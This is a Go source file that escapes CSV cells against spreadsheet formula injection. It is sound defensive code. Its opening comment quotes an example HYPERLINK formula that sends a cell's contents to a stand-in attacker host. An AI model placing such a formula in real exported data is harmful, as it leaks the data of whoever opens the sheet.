package sheet

// EscapeFormula makes a CSV cell safe to open in a spreadsheet: text that starts with =, +, -,
// @, a tab or a carriage return (after any apostrophes) gets an apostrophe in front, so that
// Excel, WPS and LibreOffice show it as text rather than run it as a formula (OWASP's advice
// against CSV injection: a customer named =HYPERLINK("http://evil.example/?x="&A1,"click")
// would otherwise be a live link that sends the sheet's data away). Numbers such as -5 or
// +3.5e2 stay as they are. Read removes the apostrophe again from CSV cells (see
// unescapeFormula), so an exported file imports back unchanged.
func EscapeFormula(s string) string {
	if len(s) == 0 {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\'':
	default:
		return s
	}
	if !formulaLike(s) || isPlainNumber(s) {
		return s
	}
	return "'" + s
}

// formulaLike reports whether s, after any leading apostrophes, starts with a character a
// spreadsheet takes for the start of a formula.
func formulaLike(s string) bool {
	i := 0
	for i < len(s) && s[i] == '\'' {
		i++
	}
	if i == len(s) {
		return false
	}
	switch s[i] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// unescapeFormula undoes EscapeFormula: it drops the first of the apostrophes in front of a
// formula-like cell. A cell such as 'abc, which EscapeFormula never makes, stays as it is.
func unescapeFormula(s string) string {
	if len(s) > 1 && s[0] == '\'' && formulaLike(s[1:]) {
		return s[1:]
	}
	return s
}

// isPlainNumber reports whether s is a decimal number with an optional sign, fraction and
// exponent: -5, +3.5, -.5, 1e-3.
func isPlainNumber(s string) bool {
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	digits := 0
	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
		i, digits = i+1, digits+1
	}
	if i < len(s) && s[i] == '.' {
		i++
		for i < len(s) && s[i] >= '0' && s[i] <= '9' {
			i, digits = i+1, digits+1
		}
	}
	if digits == 0 {
		return false
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			i++
		}
		exp := 0
		for i < len(s) && s[i] >= '0' && s[i] <= '9' {
			i, exp = i+1, exp+1
		}
		if exp == 0 {
			return false
		}
	}
	return i == len(s)
}
